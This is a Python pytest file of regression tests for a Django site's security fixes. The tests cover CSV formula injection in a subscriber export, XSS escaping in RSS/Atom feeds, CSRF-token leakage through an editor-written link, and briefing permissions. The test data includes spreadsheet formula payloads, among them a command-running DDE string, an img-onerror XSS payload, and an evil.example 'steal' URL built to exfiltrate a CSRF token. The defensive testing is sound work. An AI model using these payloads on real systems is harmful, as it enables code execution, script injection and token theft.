"""Regression tests of the security review (issue 12): each reproduces the attack shown."""

import csv
import io
import re
from xml.etree import ElementTree

import pytest
from django.contrib.auth.models import User

from core.page_cache import CSRF_PLACEHOLDER
from tests.factories import ArticleFactory, SubscriberFactory, briefing_of

pytestmark = pytest.mark.django_db


# --- Item 7: CSV formula injection in the subscriber export -------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example","Click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\t=1+1",  # a tab or a carriage return first: some spreadsheets skip it, then compute
        "\r=1+1",
    ],
)
def test_the_export_never_hands_a_spreadsheet_a_formula(admin_client, name):
    SubscriberFactory(email="=cmd@example.org", name=name)
    response = admin_client.get("/admin/subscribers/subscriber/export/")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    email, stored_name = rows[1][0], rows[1][1]
    assert (email, stored_name) == ("'=cmd@example.org", f"'{name}")
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


# --- Item 8: the plain-text pull quote is text in the feeds, not HTML ---------------------------

PAYLOAD = '<img src=x onerror="alert(1)">'


@pytest.mark.parametrize(
    ("url", "element"),
    [
        ("/feeds/articles/rss/", "channel/item/description"),
        (
            "/feeds/articles/atom/",
            "{http://www.w3.org/2005/Atom}entry/{http://www.w3.org/2005/Atom}summary",
        ),
        ("/feeds/tags/x/rss/", "channel/item/description"),
    ],
)
def test_a_pull_quote_with_markup_is_escaped_in_the_feeds(client, url, element):
    ArticleFactory(pull_quote=f"Quote {PAYLOAD} & more", tag_names=["x"])
    root = ElementTree.fromstring(client.get(url).content)  # noqa: S314 (our own feed)
    (summary,) = root.findall(element)
    # What a feed reader renders as HTML: the markup is escaped text, the & a literal one.
    assert summary.text == "Quote &lt;img src=x onerror=&quot;alert(1)&quot;&gt; &amp; more"


# --- Item 9: the cached page's CSRF placeholder, inside an editor's content ---------------------


def test_a_link_in_an_excerpt_never_carries_a_readers_csrf_token(client, settings):
    settings.BRIEFING_CACHE_SECONDS = 600
    trap = f"https://evil.example/steal?t={CSRF_PLACEHOLDER}"
    article = ArticleFactory(excerpt=f'<p>Read <a href="{trap}">this</a>.</p>')
    briefing_of([article])
    for _ in range(2):  # rendered for the cache, then served from it
        page = client.get("/").text
        token = client.cookies["csrftoken"].value
        assert f'href="{trap}"' in page
        field = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
        assert field != CSRF_PLACEHOLDER
        assert len(field) == 64 and token  # the reader's token, in the form field only
        assert page.count(field) == 1


# --- Item 10: the email preview and test send need the briefing permissions ---------------------


@pytest.fixture
def staff_without_briefing_rights(db):
    user = User.objects.create_user("intern", "intern@example.org", "pw-intern-1", is_staff=True)
    from django.test import Client

    session = Client()
    session.force_login(user)
    return session


def test_staff_without_briefing_permissions_cannot_preview_or_test_send_the_email(
    staff_without_briefing_rights, mailoutbox
):
    briefing = briefing_of([ArticleFactory()])
    base = f"/subscribers/briefings/{briefing.pk}"
    assert staff_without_briefing_rights.get(f"{base}/email.html").status_code == 403
    assert staff_without_briefing_rights.get(f"{base}/email.txt").status_code == 403
    assert staff_without_briefing_rights.post(f"{base}/send-test/").status_code == 403
    assert mailoutbox == []


def test_an_editor_still_previews_and_test_sends(editor_client, mailoutbox):
    briefing = briefing_of([ArticleFactory()])
    base = f"/subscribers/briefings/{briefing.pk}"
    assert editor_client.get(f"{base}/email.html").status_code == 200
    assert editor_client.post(f"{base}/send-test/").status_code == 302
    (message,) = mailoutbox
    assert message.to[-1].endswith("desk@example.org>")
